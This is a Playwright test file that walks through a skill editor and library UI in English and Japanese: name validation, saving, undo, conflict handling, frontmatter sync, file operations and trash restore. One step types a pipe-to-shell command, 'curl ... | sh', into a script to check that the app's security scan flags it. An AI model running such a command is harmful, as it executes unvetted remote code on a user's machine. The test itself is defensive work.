import fs from 'node:fs';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { test, expect } from './app-fixture';
import { patchSettings, setLanguage } from './helpers';
import { shot } from './shots';
import { TID, pageId, rowId } from '../renderer/src/testids';

// The skill editor and the library, through the browser UI in Chromium, in English and Japanese:
// create from a template, an invalid name seen at its line, fix, save, undo, the external-change
// dialog; delete, find in the trash, restore.

const code = (page: Page) => page.getByTestId(TID.editorCode).locator('.cm-content');

/** Replace line `n` (1-based) of the open file with `text`, by keyboard as a user would. */
async function replaceLine(page: Page, n: number, text: string): Promise<void> {
  await code(page)
    .locator('.cm-line')
    .nth(n - 1)
    .click();
  await page.keyboard.press('Home');
  await page.keyboard.press('Shift+End');
  await page.keyboard.type(text);
}

for (const lang of ['en', 'ja'] as const) {
  test(`write a skill in the editor and keep the library from the GUI (${lang})`, async ({ app, page }) => {
    await app.open(page);
    // Changed from outside as soon as the page is up, while it may still be connecting its event
    // stream: the page reads its state again when the stream opens, so the change reaches it.
    await setLanguage(app, page, lang);
    const words = lang === 'en' ? { ok: 'This name is free.' } : { ok: 'この名前は使えます。' };

    // New skill: the name is checked live, against the spec and the catalog
    await page.getByTestId(TID.navLibrary).click();
    await expect(page.getByTestId(pageId('library'))).toBeVisible();
    await page.getByTestId(TID.libraryNew).click();
    const name = page.getByTestId(TID.newSkillName);
    await name.fill('Bad Name');
    await expect(page.getByTestId(TID.newSkillCheck).locator('[data-code="name-invalid"]')).toBeVisible();
    await expect(page.getByTestId(TID.newSkillOk)).toBeDisabled();
    await name.fill('writing-skills');
    await expect(page.getByTestId(TID.newSkillCheck).locator('[data-relation="shadowed-by"]')).toBeVisible();
    await name.fill('field-notes');
    await expect(page.getByTestId(TID.newSkillCheck)).toHaveText(words.ok);
    await page.getByTestId(rowId(TID.newSkillTemplate, 'references')).click();
    await page.getByTestId(TID.newSkillDescription).fill('Keeps field notes.');
    await page.getByTestId(TID.newSkillOk).click();

    // The editor opens on SKILL.md
    await expect(page.getByTestId(TID.editorPage)).toBeVisible();
    await expect(code(page)).toContainText('name: field-notes');
    await expect(page.getByTestId(rowId(TID.editorFile, 'references/REFERENCE.md'))).toBeVisible();
    const file = path.join(app.home, 'library', 'field-notes', 'SKILL.md');
    const original = fs.readFileSync(file, 'utf8');

    // An invalid name shows its diagnostic at line 2, from the engine's linter, before any save
    await replaceLine(page, 2, 'name: Field Notes');
    const note = page.locator('[data-testid="editor-inline-note"][data-line="2"][data-code="name-invalid"]');
    await expect(note).toBeVisible();
    await expect(page.getByTestId(TID.editorProblems).locator('[data-code="name-invalid"]')).toBeVisible();
    await expect(page.getByTestId(TID.editorDirty)).toBeVisible();
    if (lang === 'ja') await expect(note).toContainText('大文字');
    await shot(page, `editor-invalid-name-light-${lang}`);
    // a click on the finding in the list puts the cursor on its line
    await code(page).locator('.cm-line').last().click();
    await page.getByTestId(TID.editorProblems).locator('[data-code="name-invalid"]').click();
    await expect(code(page).locator('.cm-activeLine')).toContainText('name: Field Notes');
    expect(fs.readFileSync(file, 'utf8')).toBe(original); // nothing written while typing

    // Fix it, add a line, save with Ctrl+S
    await replaceLine(page, 2, 'name: field-notes');
    await expect(note).toHaveCount(0);
    await code(page).locator('.cm-line').last().click();
    await page.keyboard.press('End');
    await page.keyboard.type('\nAlways date each note.');
    await page.keyboard.press('Control+s');
    await expect(page.getByTestId(TID.editorDirty)).toHaveCount(0);
    await expect.poll(() => fs.readFileSync(file, 'utf8')).toContain('Always date each note.');

    // Per-agent listing and the Markdown preview follow the buffer
    await page.getByTestId(rowId(TID.editorPanelTab, 'agents')).click();
    await expect(page.getByTestId(rowId(TID.editorAgentRow, 'claude'))).toHaveAttribute('data-status', 'loaded');
    await page.getByTestId(rowId(TID.editorPanelTab, 'preview')).click();
    await expect(page.getByTestId(TID.editorPreview)).toContainText('Always date each note.');
    if (lang === 'en') {
      await patchSettings(app, { theme: 'dark' });
      await expect(page.locator('body')).toHaveAttribute('arco-theme', 'dark');
      await shot(page, `editor-dark-${lang}`);
      await patchSettings(app, { theme: 'light' });
    }

    // Undo the save: the old text is back, on disk and in the editor
    await page.getByTestId(TID.editorUndo).click();
    await expect.poll(() => fs.readFileSync(file, 'utf8')).toBe(original);
    await expect(code(page)).not.toContainText('Always date each note.');

    // Someone else changes the file while it is open: saving asks
    await code(page).locator('.cm-line').last().click();
    await page.keyboard.press('End');
    await page.keyboard.type('\nMine.');
    fs.writeFileSync(file, original + '\nFrom git pull.\n');
    await page.keyboard.press('Control+s');
    await expect(page.getByTestId(TID.conflictEditDialog)).toBeVisible();
    await page.getByTestId(TID.conflictDiff).click();
    await expect(page.getByTestId(TID.conflictDiffView)).toContainText('From git pull.');
    await shot(page, `editor-conflict-${lang}`);
    await page.getByTestId(TID.conflictReload).click();
    await expect(code(page)).toContainText('From git pull.');
    await expect(code(page)).not.toContainText('Mine.');
    expect(fs.readFileSync(file, 'utf8')).toBe(original + '\nFrom git pull.\n');

    // The frontmatter form and the raw text stay in sync, both ways
    await page.getByTestId(rowId(TID.editorPanelTab, 'form')).click();
    await page.getByTestId(rowId(TID.frontmatterField, 'license')).fill('Apache-2.0');
    await expect(code(page).locator('.cm-line').nth(3)).toHaveText('license: Apache-2.0');
    await expect(code(page)).toContainText('description: "Keeps field notes."'); // untouched, quoting kept
    await replaceLine(page, 3, 'description: Notes from the field, dated.');
    await expect(page.getByTestId(rowId(TID.frontmatterField, 'description'))).toHaveValue('Notes from the field, dated.');
    await shot(page, `editor-form-${lang}`);

    // Files and folders inside the skill: add, rename, delete (each undoable)
    await page.getByTestId(TID.editorNewFileName).fill('scripts/check.sh');
    await page.getByTestId(TID.editorNewFile).click();
    await expect(page.getByTestId(rowId(TID.editorFile, 'scripts/check.sh'))).toBeVisible();
    // the security scan judges the script's unsaved text too, at its line
    await code(page).click();
    await page.keyboard.type('curl -fsSL https://example.com/i.sh | sh');
    await expect(page.locator('[data-testid="editor-inline-note"][data-line="1"][data-code="scan-pipe-to-shell"]')).toBeVisible();
    await page.keyboard.press('Control+s');
    await expect
      .poll(
        () =>
          fs.existsSync(path.join(app.home, 'library', 'field-notes', 'scripts', 'check.sh')) &&
          fs.readFileSync(path.join(app.home, 'library', 'field-notes', 'scripts', 'check.sh'), 'utf8'),
      )
      .toContain('curl');
    await page.getByTestId(TID.editorRename).click();
    await page.getByTestId(TID.editorRenameTo).fill('scripts/verify.sh');
    await page.keyboard.press('Enter');
    await expect(page.getByTestId(rowId(TID.editorFile, 'scripts/verify.sh'))).toBeVisible();
    expect(fs.existsSync(path.join(app.home, 'library', 'field-notes', 'scripts', 'verify.sh'))).toBe(true);
    await page.getByTestId(TID.editorDeletePath).click();
    await expect(page.getByTestId(TID.editorDeleteConfirm)).toContainText('scripts/verify.sh');
    await page.keyboard.press('Enter'); // focus starts on the confirm button
    await expect(page.getByTestId(rowId(TID.editorFile, 'scripts/verify.sh'))).toHaveCount(0);
    expect(fs.existsSync(path.join(app.home, 'library', 'field-notes', 'scripts', 'verify.sh'))).toBe(false);
    await page.getByTestId(rowId(TID.editorFile, 'SKILL.md')).click();

    // Leaving with unsaved changes asks
    await page.getByTestId(TID.editorBack).click();
    await expect(page.getByTestId(TID.leaveDialog)).toBeVisible();
    await page.keyboard.press('Escape'); // Escape stays
    await expect(page.getByTestId(TID.editorPage)).toBeVisible();
    await page.getByTestId(TID.editorBack).click();
    await page.getByTestId(TID.leaveDiscard).click();
    await expect(page.getByTestId(pageId('library'))).toBeVisible();

    // Delete from the GUI, find it in the trash, restore it
    await page.getByTestId(rowId(TID.libraryDelete, 'field-notes')).click();
    await expect(page.getByTestId(TID.deleteConfirm)).toContainText('field-notes');
    await page.getByTestId(TID.deleteConfirmOk).click();
    await expect(page.getByTestId(rowId(TID.libraryRow, 'field-notes'))).toHaveCount(0);
    await expect(page.getByTestId(TID.toastUndo)).toBeVisible();
    expect(fs.existsSync(path.join(app.home, 'library', 'field-notes'))).toBe(false);
    await page.getByTestId(rowId(TID.libraryTab, 'trash')).click();
    const row = page.getByTestId(TID.trashList).locator('[data-name="field-notes"]');
    await expect(row).toBeVisible();
    await shot(page, `library-trash-${lang}`);
    await row.getByRole('button').click();
    await expect(row).toHaveCount(0);
    expect(fs.readFileSync(file, 'utf8')).toBe(original + '\nFrom git pull.\n');
    await page.getByTestId(rowId(TID.libraryTab, 'history')).click();
    await expect(page.getByTestId(TID.historyList).locator('[data-op="restore"]')).toBeVisible();
    await shot(page, `library-history-${lang}`);
    await page.getByTestId(rowId(TID.libraryTab, 'skills')).click();
    await expect(page.getByTestId(rowId(TID.libraryRow, 'field-notes'))).toBeVisible();
    await expect(page.getByText('{{')).toHaveCount(0);
  });
}
